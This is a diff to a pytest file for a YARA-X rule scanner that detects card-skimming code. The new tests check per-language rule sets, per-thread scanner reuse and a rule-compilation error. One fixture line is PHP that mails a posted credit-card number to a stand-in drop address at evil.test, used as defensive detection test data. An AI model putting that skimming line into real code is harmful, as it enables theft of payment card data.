@@ -5,6 +5,7 @@ IDs must match, ``expect: none`` for hard negatives)."""
 from __future__ import annotations
 
 import re
+import threading
 from pathlib import Path
 
 import pytest
@@ -301,6 +302,7 @@ def test_timeout_becomes_a_typed_error(monkeypatch: pytest.MonkeyPatch) -> None:
             raise yara_x.TimeoutError("timeout")
 
     monkeypatch.setattr(yara_x, "Scanner", SlowScanner)
+    monkeypatch.setattr(yara_rules, "_local", threading.local())  # forget the scanners built so far
     with pytest.raises(RuleScanTimeout, match="timed out") as info:
         scan_rules("anything", language=Language.JS)
     assert isinstance(info.value, SkimguardError)
@@ -364,3 +366,65 @@ def test_decoder_rules_scan_hostile_input_quickly() -> None:
     text = (chunk * 2000)[:MAX_SCAN_BYTES]
     hits = scan_rules(text, language=Language.JS)
     assert [hit.rule_id for hit in hits] == ["SG452"]
+
+
+# --- per-language rule sets and scanner reuse ----------------------------------------------------
+
+
+def test_each_language_has_a_rule_set_of_exactly_its_rules() -> None:
+    languages = {rule.identifier: dict(rule.metadata)["language"] for rule in packaged_rules()}
+    sizes = {}
+    for language, applicable in APPLICABLE_RULE_LANGUAGES.items():
+        names = {rule.identifier for rule in yara_rules.packaged_rule_set(language)}
+        assert names == {name for name, lang in languages.items() if lang in applicable}, language
+        sizes[language] = len(names)
+    assert sizes == {Language.JS: 39, Language.HTML: 42, Language.PHP: 38, Language.TEXT: 68}
+    assert yara_rules.packaged_rule_set(Language.TEXT) is packaged_rules()  # every rule: the whole set
+
+
+@pytest.mark.parametrize("path", _fixtures(), ids=lambda p: p.name)
+def test_a_language_set_finds_what_the_whole_set_finds_for_that_language(path: Path) -> None:
+    language = _LANGUAGE_BY_SUFFIX[path.suffix]
+    data = path.read_bytes()
+    applicable = APPLICABLE_RULE_LANGUAGES[language]
+    whole = {
+        r.identifier for r in packaged_rules().scan(data).matching_rules if dict(r.metadata)["language"] in applicable
+    }
+    assert {r.identifier for r in yara_rules.packaged_rule_set(language).scan(data).matching_rules} == whole
+
+
+def test_rule_sets_of_test_sources_and_a_bad_cut() -> None:
+    sources = {
+        "a.yar": "// header\n" + _rule("js_one", '"alpha"', rule_id="SG497"),
+        "b.yar": _rule("php_one", '"bravo"', rule_id="SG498").replace('language = "js"', 'language = "php"'),
+    }
+    sets = yara_rules.compile_rule_sets(sources)
+    assert {lang: sorted(r.identifier for r in rules) for lang, rules in sets.items()} == {
+        Language.JS: ["js_one"],
+        Language.HTML: ["js_one"],
+        Language.PHP: ["php_one"],
+        Language.TEXT: ["js_one", "php_one"],
+    }
+    # "rule x" at the start of a comment line would cut a rule in two: refused, not a lost rule
+    commented = sources["a.yar"].replace("    strings:", "/*\nrule php_one is not here\n*/\n    strings:")
+    with pytest.raises(RuleCompileError):
+        yara_rules.compile_rule_sets({"a.yar": commented, "b.yar": sources["b.yar"]})
+
+
+def test_a_thread_reuses_its_scanner_per_rule_set() -> None:
+    first = yara_rules._scanner(yara_rules.packaged_rule_set(Language.PHP))
+    assert yara_rules._scanner(yara_rules.packaged_rule_set(Language.PHP)) is first
+    assert yara_rules._scanner(yara_rules.packaged_rule_set(Language.JS)) is not first
+    other: list[bool] = []  # a scanner must not leave its thread (yara-x refuses to drop it elsewhere)
+
+    def in_a_thread() -> None:
+        other.append(yara_rules._scanner(yara_rules.packaged_rule_set(Language.PHP)) is first)
+
+    thread = threading.Thread(target=in_a_thread)
+    thread.start()
+    thread.join()
+    assert other == [False]
+    # a scanner used again gives the same hits as a fresh one
+    text = "<?php\n$x = 1;\nmail('drop@evil.test', 's', $_POST['cc_number']);\n"
+    assert scan_rules(text, language=Language.PHP) == scan_rules(text, language=Language.PHP)
+    assert [h.rule_id for h in scan_rules(text, language=Language.PHP)] == ["SG429", "SG430"]
